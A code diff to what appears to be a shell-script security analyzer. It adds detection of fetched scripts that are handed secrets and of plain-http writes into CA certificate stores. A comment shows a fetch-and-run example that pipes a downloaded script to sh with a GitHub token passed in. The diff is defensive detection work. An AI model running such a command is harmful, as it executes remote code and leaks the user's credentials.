@@ -41,6 +41,7 @@ void Analysis::RunTaint(std::uint32_t index, const Taint& taint) {
     Widen(use, taint.fetch_loc);
     if (taint.decoded) use.obfuscation = std::max<std::uint8_t>(use.obfuscation, 2);
     use.steps.emplace_back(script_.commands[index].loc, "runs what was fetched");
+    HandsToFetched(index, taint.url);
     return;
   }
   if (taint.decoded) {
@@ -61,6 +62,20 @@ void Analysis::RunTaint(std::uint32_t index, const Taint& taint) {
       if (auto text = ConstantOutput(script_, taint.decoder, decodes)) use.decoded = text->substr(0, 2048);
     }
     use.steps.emplace_back(script_.commands[index].loc, "runs what was decoded");
+  }
+}
+
+// wget -qO- https://host/up | GITHUB_TOKEN=$(gh auth token) sh: what is fetched is given what a store or a program of
+// the user's prints.
+void Analysis::HandsToFetched(std::uint32_t index, const std::string& url) {
+  const std::string host = HostOf(url);
+  for (const auto& [name, value] : script_.commands[index].assignments) {
+    Taint given = OfWord(value);
+    if (!given.secret || !IsFixedPlace(host, url)) continue;
+    if (given.what.ends_with(kTokenMark) &&
+        HostOfVendors(host, VendorOf(std::string_view(given.what).substr(0, given.what.size() - kTokenMark.size()))))
+      continue;
+    Sends(index, host, url, given, true);
   }
 }
 
@@ -248,6 +263,11 @@ void Analysis::Wrote(std::uint32_t index, const ShellWord& path, const Taint& ta
     // Names of hosts that mean other machines from now on.
     act = ShellAct::kPermission;
     gravity = known.empty() ? 1 : 2;
+  } else if (taint.fetched && taint.url.starts_with("http://") &&
+             HasOneOf(text, {"ca-certificates/", "ca-trust/", "/etc/ssl/certs/", "/usr/share/pki/"})) {
+    // Whom the machine believes, from whoever answers on the way.
+    act = ShellAct::kPermission;
+    gravity = 2;
   } else if (!RoutesTo(text, known).empty()) {
     act = ShellAct::kPermission;
     gravity = 2;
